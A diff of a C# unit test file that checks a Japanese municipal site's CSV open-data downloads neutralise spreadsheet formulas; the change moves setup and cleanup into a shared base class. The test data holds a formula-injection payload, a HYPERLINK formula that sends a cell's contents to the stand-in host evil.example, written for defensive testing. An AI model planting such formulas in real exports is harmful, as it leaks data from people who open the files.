@@ -9,14 +9,11 @@ namespace MoriokaSite.Tests.Site;
 /// A cell Excel would run as a formula is written to the CSV downloads with a single quotation mark
 /// before it, still read back as one cell; the JSON keeps the value as the data has it.
 /// </summary>
-public sealed class OpenDataFormulaTests : IDisposable
+public sealed class OpenDataFormulaTests : SiteCopyTests
 {
     private const string Formula = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"詳しくはこちら\")";
     private const string Minus = "-1+2 市町が負担する事業";
     private const string At = "@SUM(A1:A9) の事業";
-
-    private readonly SiteCopy _site = new();
-    private readonly TempFolder _out = new();
 
     public OpenDataFormulaTests()
     {
@@ -27,12 +24,6 @@ public sealed class OpenDataFormulaTests : IDisposable
         _site.ReplaceLine(ProjectRows.Path, line, string.Join(',', cells));
         ProjectRows.SetCell(_site, "p002", "事業概要", Minus);
         ProjectRows.SetCell(_site, "p003", "事業概要", At);
-    }
-
-    public void Dispose()
-    {
-        _site.Dispose();
-        _out.Dispose();
     }
 
     [Fact]
